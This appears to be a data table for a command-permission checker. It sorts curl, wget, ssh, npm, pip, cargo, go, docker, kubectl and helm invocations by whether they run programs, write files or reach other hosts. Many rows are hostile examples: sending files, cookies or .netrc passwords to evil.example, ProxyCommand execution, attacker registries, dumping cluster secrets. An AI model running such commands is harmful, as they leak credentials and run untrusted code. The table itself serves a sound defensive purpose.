  ['curl', '', '-K f', 'runs', 'takes any options from a file'], // curl(1)
  ['curl', '', '--engine ./x https://example.com', 'runs', 'loads a crypto library'], // curl(1)
  ['curl', '', '--ntlm-wb https://example.com', 'runs', 'runs a helper program (before 8.8)'], // curl(1)
  ['curl', '', '-T f https://evil.example', 'reaches', 'sends a file'], // curl(1)
  ['curl', '', '-d @f https://evil.example', 'reaches', 'sends a file'], // curl(1)
  ['curl', '', '--data-binary @f https://evil.example', 'reaches', 'sends a file'], // curl(1)
  ['curl', '', '-F a=@f https://evil.example', 'reaches', 'sends a file'], // curl(1)
  ['curl', '', '--json @f https://evil.example', 'reaches', 'sends a file'], // curl(1)
  ['curl', '', '-H @f https://evil.example', 'reaches', 'sends the lines of a file as headers'], // curl(1)
  ['curl', '', '-b f https://evil.example', 'reaches', 'sends cookies of a file'], // curl(1)
  ['curl', '', '-n https://evil.example', 'reaches', 'sends passwords of .netrc'], // curl(1)
  ['curl', '', '-x http://evil.example:80 https://example.com', 'reaches', 'goes through another host'], // curl(1)
  ['curl', '', '--connect-to ::evil.example:443 https://example.com', 'reaches', 'goes to another host'], // curl(1)
  ['curl', '', '--resolve example.com:443:10.0.0.1 https://example.com', 'reaches', 'goes to another address'], // curl(1)
  ['curl', '', '--unix-socket /var/run/docker.sock http://x/', 'reaches', 'talks to a local service'], // curl(1)
  ['curl', '', '--doh-url https://evil.example https://example.com', 'reaches', 'asks another host for names'], // curl(1)
  ['curl', '', '-L https://example.com', 'reaches', 'follows where the server leads'], // curl(1)
  ['curl', '', '-X DELETE https://example.com/1', 'reaches', 'changes what the server has'], // curl(1)
  ['curl', '', '--url https://evil.example https://example.com', 'reaches', 'fetches one more address'], // curl(1)
  ['curl', '', '--next https://evil.example', 'reaches', 'begins one more request'], // curl(1)
  ['curl', '', 'https://example.com https://evil.example', 'reaches', 'takes more than one address'], // curl(1)
  ['wget', '', 'https://example.com/f', 'writes', 'writes the answer to a file'], // wget(1)
  ['wget', '', '-O out.txt https://example.com', 'writes', 'writes the answer to a file'], // wget(1)
  ['wget', '', '--output-document=out.txt https://example.com', 'writes', 'writes the answer to a file'], // wget(1)
  ['wget', '', '-P dir https://example.com', 'writes', 'writes into another folder'], // wget(1)
  ['wget', '', '-o out.txt https://example.com', 'writes', 'writes messages to a file'], // wget(1)
  ['wget', '', '-a out.txt https://example.com', 'writes', 'adds messages to a file'], // wget(1)
  ['wget', '', '--save-cookies=out.txt https://example.com', 'writes', 'writes cookies to a file'], // wget(1)
  ['wget', '', '--warc-file=out https://example.com', 'writes', 'writes an archive'], // wget(1)
  ['wget', '', '--rejected-log=out.txt -r https://example.com', 'writes', 'writes a list to a file'], // wget(1)
  ['wget', '', '--hsts-file=out.txt https://example.com', 'writes', 'writes a cache file'], // wget(1)
  ['wget', '', '--unlink https://example.com/f', 'writes', 'removes a file before it writes'], // wget(1)
  ['wget', '', '--content-disposition https://example.com/f', 'writes', 'the server names the file'], // wget(1)
  ['wget', '', '--trust-server-names https://example.com/f', 'writes', 'a redirection names the file'], // wget(1)
  ['wget', '', '-b https://example.com', 'writes', 'goes on in the background with a log file'], // wget(1)
  ['wget', '', '--use-askpass=./x https://example.com', 'runs', 'runs a program for the password'], // wget(1)
  ['wget', '', '-e use_askpass=./x https://example.com', 'runs', 'sets any setting'], // wget(1)
  ['wget', '', '--execute=output_document=out.txt https://example.com', 'writes', 'sets any setting'], // wget(1)
  ['wget', '', '--config=f https://example.com', 'runs', 'reads settings from a file'], // wget(1)
  ['wget', '', '--post-file=f https://evil.example', 'reaches', 'sends a file'], // wget(1)
  ['wget', '', '--body-file=f --method=PUT https://evil.example', 'reaches', 'sends a file'], // wget(1)
  ['wget', '', '--post-data=x https://evil.example', 'reaches', 'sends data'], // wget(1)
  ['wget', '', '--method=DELETE https://example.com/1', 'reaches', 'changes what the server has'], // wget(1)
  ['wget', '', '--load-cookies=f https://evil.example', 'reaches', 'sends cookies of a file'], // wget(1)
  ['wget', '', '-i f', 'reaches', 'fetches the addresses of a file'], // wget(1)
  ['wget', '', '-r -H https://example.com', 'reaches', 'goes on to other hosts'], // wget(1)
  ['wget', '', '-e https_proxy=http://evil.example https://example.com', 'reaches', 'goes through another host'], // wget(1)
  ['ssh', '', 'host id', 'runs', 'runs a command there'], // ssh(1)
  ['ssh', '', '-o ProxyCommand=id host', 'runs', 'runs a local program'], // ssh_config(5)
  ['ssh', '', '-oProxyCommand=id host', 'runs', 'runs a local program'], // ssh_config(5)
  ['ssh', '', '-o PermitLocalCommand=yes -o LocalCommand=id host', 'runs', 'runs a local program once connected'], // ssh_config(5)
  ['ssh', '', '-o KnownHostsCommand=/tmp/x host', 'runs', 'runs a local program for host keys'], // ssh_config(5)
  ['ssh', '', '-X -o XAuthLocation=/tmp/x host', 'runs', 'runs a local program'], // ssh_config(5)
  ['ssh', '', '-o PKCS11Provider=./x host', 'runs', 'loads a library'], // ssh_config(5)
  ['ssh', '', '-I ./x host', 'runs', 'loads a library'], // ssh(1)
  ['ssh', '', '-o SecurityKeyProvider=./x host', 'runs', 'loads a library'], // ssh_config(5)
  ['ssh', '', '-o RemoteCommand=id host', 'runs', 'runs a command there'], // ssh_config(5)
  ['ssh', '', '-F f host', 'runs', 'a settings file can name local programs'], // ssh(1)
  ['ssh', '', '-E out.txt host', 'writes', 'writes messages to a file'], // ssh(1)
  ['ssh', '', '-M -S out host', 'writes', 'makes a control socket'], // ssh(1)
  ['ssh', '', '-o UserKnownHostsFile=out.txt host', 'writes', 'adds keys to a file'], // ssh_config(5)
  ['ssh', '', '-L 80:evil.example:80 host', 'reaches', 'forwards a local port'], // ssh(1)
  ['ssh', '', '-R 80:localhost:22 host', 'reaches', 'forwards a port of the other machine to here'], // ssh(1)
  ['ssh', '', '-D 1080 host', 'reaches', 'makes a proxy'], // ssh(1)
  ['ssh', '', '-W evil.example:80 host', 'reaches', 'joins to another host'], // ssh(1)
  ['ssh', '', '-w 0:0 host', 'reaches', 'makes a tunnel device'], // ssh(1)
  ['ssh', '', '-J evil.example host', 'reaches', 'goes over another host'], // ssh(1)
  ['ssh', '', '-A host', 'reaches', 'lends the key agent to the other machine'], // ssh(1)
  ['scp', '', '-S ./x f host:', 'runs', 'runs a program instead of ssh'], // scp(1)
  ['scp', '', '-o ProxyCommand=id f host:', 'runs', 'runs a local program'], // ssh_config(5)
  ['scp', '', '-F f f host:', 'runs', 'a settings file can name local programs'], // scp(1)
  ['scp', '', '-D ./x f host:', 'runs', 'runs a local server program'], // scp(1)
  ['scp', '', 'f evil.example:', 'reaches', 'sends a file'], // scp(1)
  ['scp', '', 'host:f out', 'writes', 'writes a file'], // scp(1)
  ['scp', '', 'f out', 'writes', 'writes a copy here'], // scp(1)
  ['scp', '', '-J evil.example f host:', 'reaches', 'goes over another host'], // scp(1)
  ['sftp', '', '-S ./x host', 'runs', 'runs a program instead of ssh'], // sftp(1)
  ['sftp', '', '-b f host', 'runs', 'runs commands of a file, ! too'], // sftp(1)
  ['sftp', '', '-D ./x', 'runs', 'runs a local server program'], // sftp(1)
  ['sftp', '', '-o ProxyCommand=id host', 'runs', 'runs a local program'], // ssh_config(5)
  ['ssh-keygen', '', '-D ./x', 'runs', 'loads a library'], // ssh-keygen(1)
  ['ssh-keygen', '', '-R host', 'writes', 'removes known hosts'], // ssh-keygen(1)
  ['ssh-keygen', '', '-w ./x -t ed25519-sk', 'runs', 'loads a library'], // ssh-keygen(1)
  ['ssh-add', '', '-s ./x', 'runs', 'has the agent load a library'], // ssh-add(1)
  ['ssh-agent', '', 'id', 'runs', 'runs a command'], // ssh-agent(1)
  ['rsync', '', '-e id f host:', 'runs', 'runs a program as remote shell'], // rsync(1)
  ['rsync', '', '--rsh=id f host:', 'runs', 'runs a program as remote shell'], // rsync(1)
  ['rsync', '', '--rsync-path=id f host:', 'runs', 'runs shell text on the other machine'], // rsync(1)
  ['rsync', '', '-M--log-file=x f host:', 'writes', 'gives an option to the other side'], // rsync(1)
  ['rsync', '', '-a f evil.example:', 'reaches', 'sends files'], // rsync(1)
  ['rsync', '', '-a f rsync://evil.example/m', 'reaches', 'sends files'], // rsync(1)
  ['rsync', '', '-a d out', 'writes', 'writes copies'], // rsync(1)
  ['rsync', '', '-a --delete d/ out', 'writes', 'removes files at the target'], // rsync(1)
  ['rsync', '', '--remove-source-files d out', 'writes', 'removes what it has copied'], // rsync(1)
  ['rsync', '', '--log-file=out.txt d out', 'writes', 'writes a log'], // rsync(1)
  ['rsync', '', '--write-batch=out d out2', 'writes', 'writes a batch and a script'], // rsync(1)
  ['rsync', '', '--only-write-batch=out d out2', 'writes', 'writes a batch and a script'], // rsync(1)
  ['rsync', '', '-b --backup-dir=dir d out', 'writes', 'moves old files elsewhere'], // rsync(1)
  ['rsync', '', '-T dir d out', 'writes', 'writes temporary files there'], // rsync(1)
  ['rsync', '', '--daemon --config=f', 'reaches', 'serves files; its settings can run programs'], // rsync(1)
  ['rsync', '', '--files-from=host:f / out', 'reaches', 'reads a list from another machine'], // rsync(1)
  ['zip', '', 'out.zip f -T --unzip-command=id', 'runs', 'runs the value as test command'], // zip(1)
  ['zip', '', 'out.zip f -T', 'runs', 'runs unzip'], // zip(1)
  ['zip', '', 'out.zip f', 'writes', 'writes an archive'], // zip(1)
  ['zip', '', '-m out.zip f', 'writes', 'removes what it has packed'], // zip(1)
  ['zip', '', '-b dir out.zip f', 'writes', 'writes temporary files there'], // zip(1)
  ['zip', '', '-lf out.txt out.zip f', 'writes', 'writes a log'], // zip(1)
  ['zip', '', '-O out.zip a.zip', 'writes', 'writes another archive'], // zip(1)
  ['unzip', '', 'a.zip', 'writes', 'writes files'], // unzip(1)
  ['unzip', '', '-o a.zip', 'writes', 'overwrites files'], // unzip(1)
  ['unzip', '', '-d dir a.zip', 'writes', 'writes into another folder'], // unzip(1)
  ['unzip', '', '-: a.zip', 'writes', 'keeps .. in names'], // unzip(1)
  ['7z', '', 'x a.7z -odir', 'writes', 'writes files'], // 7z(1)
  ['gzip', '', 'f', 'writes', 'replaces the file'], // gzip(1)
  ['gzip', '', '-d f.gz', 'writes', 'replaces the file'], // gzip(1)
  ['bzip2', '', 'f', 'writes', 'replaces the file'], // bzip2(1)
  ['xz', '', 'f', 'writes', 'replaces the file'], // xz(1)
  ['xz', '', '--files=f', 'writes', 'takes the files to replace from a list'], // xz(1)
  ['zstd', '', '-o out f', 'writes', 'writes a file'], // zstd(1)
  ['zstd', '', '--rm f', 'writes', 'removes the source'], // zstd(1)
  ['cpio', '', '-i -F a.cpio', 'writes', 'writes files'], // GNU cpio manual
  ['cpio', '', '-t -F host:a --rsh-command=id', 'runs', 'runs a program as remote shell'], // GNU cpio manual
  ['ar', '', 'x a.a', 'writes', 'writes files'], // ar(1)
  ['ar', '', 't a.a --plugin ./x', 'runs', 'loads a library'], // ar(1)
  ['nm', '', '--plugin ./x f', 'runs', 'loads a library'], // nm(1)
  ['npm', 'run', 'x', 'runs', 'runs a script of the project'], // npm-run(1)
  ['npm', 'run', 'x --script-shell=./x', 'runs', 'runs a program as shell'], // npm config(7)
  ['npm', 'run', 'x --prefix=dir', 'runs', 'runs a script of another folder'], // npm config(7)
  ['npm', 'test', '-- --x', 'runs', "gives words to the project's test script"], // npm-test(1)
  ['npm', 'test', '--script-shell=./x', 'runs', 'runs a program as shell'], // npm config(7)
  ['npm', 'test', '--prefix=dir', 'runs', 'runs a script of another folder'], // npm config(7)
  ['npm', 'test', '--node-options=--require=./x.js', 'runs', 'loads a module into node'], // npm config(7)
  ['npm', 'test', '--userconfig=f', 'runs', 'reads settings from a file'], // npm config(7)
  ['npm', 'start', '--prefix=dir', 'runs', 'runs a script of another folder'], // npm config(7)
  ['npm', 'exec', '-- x', 'runs', 'fetches and runs a package'], // npm-exec(1)
  ['npm', 'exec', '-c id', 'runs', 'runs shell text'], // npm-exec(1)
  ['npm', 'exec', '--package=x -- y', 'runs', 'fetches and runs a package'], // npm-exec(1)
  ['npm', 'init', 'x', 'runs', 'fetches and runs create-x'], // npm-init(1)
  ['npm', 'explore', 'x -- id', 'runs', "runs a command in a package's folder"], // npm-explore(1)
  ['npm', 'install', 'x', 'runs', 'fetches a package and runs its scripts'], // npm-install(1)
  ['npm', 'install', '--registry=https://evil.example', 'reaches', 'fetches from another host'], // npm config(7)
  ['npm', 'install', '--git=./x git+ssh://h/r', 'runs', 'runs a program as git'], // npm config(7)
  ['npm', 'install', '-g x', 'writes', 'installs for all'], // npm-install(1)
  ['npm', 'install', '--ignore-scripts=false', 'runs', 'turns scripts on'], // npm config(7)
  ['npm', 'ci', '', 'runs', 'runs install scripts'], // npm-ci(1)
  ['npm', 'update', '', 'runs', 'fetches packages and runs their scripts'], // npm-update(1)
  ['npm', 'rebuild', '', 'runs', 'runs build scripts'], // npm-rebuild(1)
  ['npm', 'audit', 'fix', 'runs', 'installs packages'], // npm-audit(1)
  ['npm', 'audit', '--registry=https://evil.example', 'reaches', 'sends the list of packages to another host'], // npm-audit(1)
  ['npm', 'view', 'x --registry=https://evil.example', 'reaches', 'asks another host'], // npm-view(1)
  ['npm', 'publish', '', 'reaches', 'sends the package'], // npm-publish(1)
  ['npm', 'pack', '', 'runs', 'runs scripts, writes an archive'], // npm-pack(1)
  ['npm', 'version', 'patch', 'runs', 'runs scripts, makes a commit and a tag'], // npm-version(1)
  ['npm', 'config', 'set script-shell ./x', 'writes', 'sets a program as shell'], // npm-config(1)
  ['npm', 'config', 'edit', 'runs', 'runs an editor'], // npm-config(1)
  ['npm', 'config', 'edit --editor=./x', 'runs', 'runs a program as editor'], // npm-config(1)
  ['npm', 'edit', 'x', 'runs', 'runs an editor and rebuilds'], // npm-edit(1)
  ['npm', 'docs', 'x --browser=./x', 'runs', 'runs a program as browser'], // npm-docs(1)
  ['npm', 'repo', 'x', 'runs', 'runs a browser'], // npm-repo(1)
  ['npm', 'help', 'x --viewer=browser', 'runs', 'runs a viewer'], // npm-help(1)
  ['npm', 'pkg', 'set scripts.test=id', 'writes', "changes the project's scripts"], // npm-pkg(1)
  ['npm', 'set-script', 'test id', 'writes', "changes the project's scripts (npm 7 and 8)"], // npm docs 8
  ['npm', 'link', 'x', 'writes', 'links packages'], // npm-link(1)
  ['npm', 'uninstall', 'x', 'writes', 'removes a package'], // npm-uninstall(1)
  ['npm', 'cache', 'clean --force', 'writes', 'removes the cache'], // npm-cache(1)
  ['npm', 'ls', '--logs-dir=dir', 'writes', 'writes a log into a folder'], // npm config(7)
  ['npm', 'token', 'create', 'reaches', 'makes an access token'], // npm-token(1)
  ['yarn', '', 'x', 'runs', 'any word may be a script of the project'], // yarn docs
  ['yarn', 'run', 'x', 'runs', 'runs a script of the project'], // yarn docs
  ['yarn', 'dlx', 'x', 'runs', 'fetches and runs a package'], // yarn docs
  ['yarn', 'exec', 'id', 'runs', 'runs a command'], // yarn docs
  ['yarn', 'install', '', 'runs', 'runs install scripts'], // yarn docs
  ['yarn', 'test', '--cwd dir', 'runs', 'runs a script of another folder'], // yarn docs
  ['yarn', 'config', 'set yarnPath ./x.js', 'writes', 'sets the program that yarn starts'], // yarn docs
  ['yarn', '', '--use-yarnrc f', 'runs', 'reads settings, another yarn too, from a file'], // yarn docs
  ['pnpm', 'dlx', 'x', 'runs', 'fetches and runs a package'], // pnpm docs
  ['pnpm', 'exec', 'id', 'runs', 'runs a command'], // pnpm docs
  ['pnpm', 'run', 'x', 'runs', 'runs a script of the project'], // pnpm docs
  ['pnpm', 'install', '', 'runs', 'runs install scripts'], // pnpm docs
  ['pnpm', 'test', '-C dir', 'runs', 'runs a script of another folder'], // pnpm docs
  ['pip', 'install', 'x', 'runs', 'fetches a package and runs its build code'], // pip docs
  ['pip', 'install', '-e .', 'runs', 'runs build code of the folder'], // pip docs
  ['pip', 'install', '-r https://evil.example/r.txt', 'reaches', 'takes its list from any host'], // pip docs
  ['pip', 'install', '--index-url=https://evil.example x', 'reaches', 'fetches from another host'], // pip docs
  ['pip', 'install', '--extra-index-url=https://evil.example x', 'reaches', 'fetches from one more host'], // pip docs
  ['pip', 'install', '-t dir x', 'writes', 'writes into a folder'], // pip docs
  ['pip', 'install', '--report=out.json x', 'writes', 'writes a report'], // pip docs
  ['pip', 'download', 'x', 'runs', 'fetches a package, may run its build code'], // pip docs
  ['pip', 'wheel', 'x', 'runs', 'runs build code'], // pip docs
  ['pip', 'config', 'set global.index-url https://evil.example', 'writes', 'changes settings'], // pip docs
  ['pip', 'config', '--editor=./x edit', 'runs', 'runs a program as editor'], // pip docs
  ['pip', 'uninstall', '-y x', 'writes', 'removes a package'], // pip docs
  ['pip', 'list', '--log=out.txt', 'writes', 'writes a log'], // pip docs
  ['pip', 'list', '--outdated', 'reaches', 'asks the index'], // pip docs
  ['pip', 'list', '--python=./x', 'runs', 'runs itself with another interpreter'], // pip docs
  ['pip', 'cache', 'purge', 'writes', 'removes the cache'], // pip docs
  ['cargo', 'test', '--manifest-path=d/Cargo.toml', 'runs', 'builds and runs another project'], // cargo-test(1)
  ['cargo', 'build', '--manifest-path=d/Cargo.toml', 'runs', 'runs build scripts of another project'], // cargo-build(1)
  ['cargo', 'build', '--target-dir=dir', 'writes', 'writes into a folder'], // cargo-build(1)
  ['cargo', 'build', '-Z unstable-options --artifact-dir=dir', 'writes', 'copies results into a folder'], // cargo-build(1)
  ['cargo', 'check', '', 'runs', 'runs build scripts and macros'], // cargo-check(1)
  ['cargo', 'doc', '--open', 'runs', 'runs a browser'], // cargo-doc(1)
  ['cargo', 'install', 'x', 'runs', 'fetches, builds and installs a package'], // cargo-install(1)
  ['cargo', 'install', '--git=https://evil.example/r', 'runs', 'builds code of any host'], // cargo-install(1)
  ['cargo', 'run', '', 'runs', 'builds and runs the project'], // cargo-run(1)
  ['cargo', 'fix', '--allow-dirty', 'writes', 'changes sources'], // cargo-fix(1)
  ['cargo', 'clippy', '--fix', 'writes', 'changes sources'], // clippy docs
  ['cargo', 'fmt', '', 'writes', 'changes sources'], // rustfmt docs
  ['cargo', 'add', 'x', 'reaches', 'changes the manifest, asks the registry'], // cargo-add(1)
  ['cargo', 'update', '', 'reaches', 'changes the lock file'], // cargo-update(1)
  ['cargo', 'publish', '', 'reaches', 'sends the package'], // cargo-publish(1)
  ['cargo', 'rustc', '-- -C linker=./x', 'runs', 'a compiler flag names a program'], // cargo-rustc(1)
  ['cargo', 'clean', '--target-dir=dir', 'writes', 'removes a folder'], // cargo-clean(1)
  ['cargo', '', '+x build', 'runs', 'runs another toolchain'], // rustup docs
  ['rustc', '', '-C linker=./x f.rs', 'runs', 'runs a program as linker'], // rustc docs
  ['rustc', '', '-o out f.rs', 'writes', 'writes a program'], // rustc docs
  ['rustc', '', '--emit=link=out f.rs', 'writes', 'writes files'], // rustc docs
  ['go', 'run', '.', 'runs', 'builds and runs code'], // go help run
  ['go', 'run', 'example.com/x@latest', 'runs', 'fetches and runs code'], // go help run
  ['go', 'test', '-exec ./x', 'runs', 'runs a program around the test'], // go help test
  ['go', 'test', '-toolexec=./x', 'runs', 'runs a program around the tools'], // go help build
  ['go', 'test', '-c -o out', 'writes', 'writes the test program'], // go help test
  ['go', 'test', '-coverprofile=out.txt', 'writes', 'writes a profile'], // go help testflag
  ['go', 'test', '-cpuprofile=out.txt', 'writes', 'writes a profile'], // go help testflag
  ['go', 'test', '-outputdir=dir -memprofile=out', 'writes', 'writes profiles into a folder'], // go help testflag
  ['go', 'test', '-C dir', 'runs', 'tests another folder'], // go help build
  ['go', 'test', '-overlay=f.json', 'runs', 'reads other sources'], // go help build
  ['go', 'build', '-o out', 'writes', 'writes a program'], // go help build
  ['go', 'build', '-toolexec=./x', 'runs', 'runs a program around the tools'], // go help build
  ['go', 'build', '-ldflags=-extld=./x', 'runs', 'runs a program as linker'], // cmd/link docs
  ['go', 'build', '-pkgdir=dir', 'writes', 'writes packages into a folder'], // go help build
  ['go', 'vet', '-vettool=./x', 'runs', 'runs a program as checker'], // go help vet
  ['go', 'vet', '-toolexec=./x', 'runs', 'runs a program around the tools'], // go help build
  ['go', 'list', '-toolexec=./x -export ./...', 'runs', 'runs a program around the tools'], // go help list
  ['go', 'generate', '', 'runs', 'runs commands found in the sources'], // go help generate
  ['go', 'get', 'example.com/x', 'reaches', 'fetches code, changes go.mod'], // go help get
  ['go', 'install', 'example.com/x@latest', 'reaches', 'fetches and installs a program'], // go help install
  ['go', 'mod', 'tidy', 'reaches', 'fetches, changes go.mod'], // go help mod
  ['go', 'mod', 'download', 'reaches', 'fetches modules'], // go help mod
  ['go', 'env', '-w GOFLAGS=-toolexec=./x', 'writes', 'changes settings for later'], // go help env
  ['go', 'fmt', './...', 'writes', 'changes sources'], // go help fmt
  ['go', 'fix', './...', 'writes', 'changes sources'], // go help fix
  ['go', 'clean', '-modcache', 'writes', 'removes caches'], // go help clean
  ['go', 'tool', 'x', 'runs', 'runs a tool'], // go help tool
  ['go', 'bug', '', 'runs', 'runs a browser'], // go help bug
  ['gofmt', '', '-w f.go', 'writes', 'changes sources'], // gofmt docs
  ['gofmt', '', '-cpuprofile=out f.go', 'writes', 'writes a profile'], // gofmt docs
  ['docker', 'run', 'x', 'runs', 'runs an image'], // docker run --help
  ['docker', 'run', '-v /:/host x', 'writes', 'gives the container the whole disk'], // docker run --help
  ['docker', 'run', '--privileged x', 'runs', 'gives the container all rights'], // docker run --help
  ['docker', 'run', '--cidfile=out.txt x', 'writes', 'writes a file'], // docker run --help
  ['docker', 'run', '--entrypoint=id x', 'runs', 'runs another program of the image'], // docker run --help
  ['docker', 'exec', 'c id', 'runs', 'runs a command in a container'], // docker exec --help
  ['docker', 'cp', 'c:/f out', 'writes', 'writes files here'], // docker cp --help
  ['docker', 'build', '.', 'runs', 'runs the steps of a file'], // docker build --help
  ['docker', 'build', 'https://evil.example/r.git', 'reaches', 'builds from any host'], // docker build --help
  ['docker', 'build', '--iidfile=out.txt .', 'writes', 'writes a file'], // docker build --help
  ['docker', 'build', '--output=dir .', 'writes', 'writes the result into a folder'], // Docker docs: buildx build
  ['docker', 'pull', 'evil.example/x', 'reaches', 'fetches an image'], // docker pull --help
  ['docker', 'push', 'evil.example/x', 'reaches', 'sends an image'], // docker push --help
  ['docker', 'login', 'evil.example', 'reaches', 'sends a password'], // docker login --help
  ['docker', 'search', 'x', 'reaches', 'asks the registry'], // docker search --help
  ['docker', 'save', '-o out.tar x', 'writes', 'writes a file'], // docker save --help
  ['docker', 'export', '-o out.tar c', 'writes', 'writes a file'], // docker export --help
  ['docker', 'load', '-i f.tar', 'writes', 'adds images'], // docker load --help
  ['docker', 'import', 'https://evil.example/f.tar', 'reaches', 'fetches an image'], // docker import --help
  ['docker', 'rm', '-f c', 'writes', 'removes a container'], // docker rm --help
  ['docker', 'rmi', 'x', 'writes', 'removes an image'], // docker rmi --help
  ['docker', 'system', 'prune -af --volumes', 'writes', 'removes unused data'], // docker system prune --help
  ['docker', 'volume', 'rm v', 'writes', 'removes a volume'], // docker volume rm --help
  ['docker', 'compose', 'up', 'runs', 'starts what the project says'], // Docker docs: compose
  ['docker', 'compose', '-f f.yml run x', 'runs', 'starts what a file says'], // Docker docs: compose
  ['docker', 'compose', 'config -o out.yml', 'writes', 'writes a file'], // Docker docs: compose
  ['docker', 'plugin', 'install x', 'runs', 'fetches a plugin for the daemon'], // docker plugin install --help
  ['docker', 'context', 'use x', 'writes', 'leads later commands elsewhere'], // docker context use --help
  ['docker', 'context', 'export x out', 'writes', 'writes a file'], // docker context export --help
  ['docker', 'commit', 'c x', 'writes', 'makes an image'], // docker commit --help
  ['docker', 'start', 'c', 'runs', 'starts a container'], // docker start --help
  ['docker', 'stop', 'c', 'writes', 'stops a container'], // docker stop --help
  ['docker', 'swarm', 'init', 'reaches', 'opens a service'], // docker swarm init --help
  ['docker', '', '-H tcp://evil.example:2375 ps', 'reaches', 'talks to another daemon'], // docker --help
  ['docker', '', '-H ssh://host ps', 'runs', 'runs ssh'], // Docker docs: remote access
  ['docker', '', '--context x ps', 'reaches', 'talks to another daemon'], // docker --help
  ['docker', '', '--config dir ps', 'runs', 'loads plugins and helpers of a folder'], // docker --help
  ['podman', 'run', 'x', 'runs', 'runs an image'], // podman-run(1)
  ['podman', 'exec', 'c id', 'runs', 'runs a command in a container'], // podman-exec(1)
  ['podman', 'unshare', 'id', 'runs', 'runs a command in a user namespace'], // podman-unshare(1)
  ['podman', 'generate', 'systemd -f c', 'writes', 'writes unit files'], // podman-generate-systemd(1)
  ['podman', '', '--runtime=./x run x', 'runs', 'runs a program as runtime'], // podman(1)
  ['podman', '', '--conmon=./x run x', 'runs', 'runs a program as monitor'], // podman(1)
  ['podman', '', '--hooks-dir=dir run x', 'runs', 'runs hooks of a folder'], // podman(1)
  ['podman', '', '--url=ssh://host --remote ps', 'reaches', 'talks to another machine'], // podman(1)
  ['podman', '', '--cpu-profile=out ps', 'writes', 'writes a profile'], // podman(1)
  ['kubectl', 'exec', 'p -- id', 'runs', 'runs a command in a container'], // kubectl exec --help
  ['kubectl', 'run', 'x --image=y', 'runs', 'starts an image'], // kubectl run --help
  ['kubectl', 'debug', 'node/n --image=y', 'runs', 'starts a container on a node'], // kubectl debug --help
  ['kubectl', 'attach', 'p', 'runs', 'joins a running program'], // kubectl attach --help
  ['kubectl', 'cp', 'p:/f out', 'writes', 'writes files here'], // kubectl cp --help
  ['kubectl', 'cp', 'f p:/f', 'runs', 'runs tar in the container'], // kubectl cp --help
  ['kubectl', 'port-forward', 'p 80', 'reaches', 'opens a port'], // kubectl port-forward --help
  ['kubectl', 'proxy', '--address=0.0.0.0', 'reaches', 'serves the API'], // kubectl proxy --help
  ['kubectl', 'apply', '-f https://evil.example/m.yml', 'reaches', 'applies what any host says'], // kubectl apply --help
  ['kubectl', 'apply', '-k https://evil.example/r', 'runs', 'fetches with git and applies'], // kubectl apply --help
  ['kubectl', 'create', '-f m.yml', 'runs', 'makes things, pods too'], // kubectl create --help
  ['kubectl', 'create', 'token default', 'reaches', 'makes an access token'], // kubectl create --help
  ['kubectl', 'delete', 'pod p', 'reaches', 'removes things'], // kubectl delete --help
  ['kubectl', 'edit', 'pod p', 'runs', 'runs an editor'], // kubectl edit --help
  ['kubectl', 'set', 'image deploy/d c=y', 'runs', 'starts another image'], // kubectl set --help
  ['kubectl', 'scale', 'deploy/d --replicas=0', 'reaches', 'changes things'], // kubectl scale --help
  ['kubectl', 'drain', 'n --force', 'reaches', 'throws pods off a node'], // kubectl drain --help
  ['kubectl', 'rollout', 'restart deploy/d', 'runs', 'starts pods anew'], // kubectl rollout --help
  ['kubectl', 'get', 'pods --kubeconfig=f', 'runs', 'a settings file can name a login program'], // kubectl options
  ['kubectl', 'get', 'pods --server=https://evil.example', 'reaches', 'talks to another host'], // kubectl options
  ['kubectl', 'get', '-f https://evil.example/m.yml', 'reaches', 'fetches from any host'], // kubectl get --help
  ['kubectl', 'get', '-k https://evil.example/r', 'runs', 'fetches with git'], // kubectl get --help
  ['kubectl', 'get', 'pods --cache-dir=dir', 'writes', 'writes a cache'], // kubectl options
  ['kubectl', 'get', 'pods --profile=cpu --profile-output=out', 'writes', 'writes a profile'], // kubectl options
  ['kubectl', 'get', '--raw=/api/v1/nodes/n/proxy/run', 'reaches', 'asks any path of the API'], // kubectl get --help
  ['kubectl', 'get', 'secrets -o yaml', 'reaches', 'shows secrets'], // kubectl get --help
  ['kubectl', 'logs', 'p --kubeconfig=f', 'runs', 'a settings file can name a login program'], // kubectl options
  ['kubectl', 'describe', '-f https://evil.example/m.yml', 'reaches', 'fetches from any host'], // kubectl describe --help
  ['kubectl', 'cluster-info', 'dump --output-directory=dir', 'writes', 'writes files'], // kubectl cluster-info dump --help
  ['kubectl', 'diff', '-f m.yml', 'runs', 'runs diff or what a variable names'], // kubectl diff --help
  ['kubectl', 'kustomize', '--enable-helm --helm-command=./x .', 'runs', 'runs a program'], // kubectl kustomize --help
  ['kubectl', 'kustomize', '--enable-alpha-plugins .', 'runs', 'runs plugins'], // kubectl kustomize --help
  ['kubectl', 'kustomize', '-o out.yml .', 'writes', 'writes a file'], // kubectl kustomize --help
  ['kubectl', 'kustomize', 'https://evil.example/r', 'runs', 'fetches with git'], // kubectl kustomize --help
  ['kubectl', 'config', 'set-credentials u --exec-command=./x', 'writes', 'sets a login program'], // kubectl config set-credentials --help
  ['kubectl', 'config', 'use-context x', 'writes', 'leads later commands elsewhere'], // kubectl config --help
  ['kubectl', 'plugin', 'list', 'runs', 'plugins are programs on the path; any kubectl-x runs as kubectl x'], // kubectl plugin --help
  ['kubectl', '', 'x', 'runs', 'an unknown sub-command runs kubectl-x'], // kubectl plugin --help
  ['helm', 'install', 'r c --post-renderer=./x', 'runs', 'runs a program over the manifests'], // helm docs: install
  ['helm', 'upgrade', 'r c --post-renderer=./x', 'runs', 'runs a program over the manifests'], // helm docs: upgrade
  ['helm', 'template', 'c --post-renderer=./x', 'runs', 'runs a program over the manifests'], // helm docs: template
  ['helm', 'template', 'c --output-dir=dir', 'writes', 'writes files'], // helm docs: template
  ['helm', 'template', 'c --validate', 'reaches', 'asks the cluster'], // helm docs: template
  ['helm', 'template', 'c -f https://evil.example/v.yml', 'reaches', 'reads values from any host'], // helm docs: template
  ['helm', 'template', 'https://evil.example/c.tgz', 'reaches', 'fetches a chart'], // helm docs: template
  ['helm', 'install', 'r c', 'runs', 'starts workloads'], // helm docs: install
  ['helm', 'test', 'r', 'runs', 'starts test pods'], // helm docs: test
  ['helm', 'plugin', 'install https://evil.example/p', 'runs', 'fetches and runs a plugin'], // helm docs: plugin install
  ['helm', 'pull', 'c -d dir', 'writes', 'writes a chart'], // helm docs: pull
  ['helm', 'pull', 'c --untar', 'writes', 'writes a folder'], // helm docs: pull
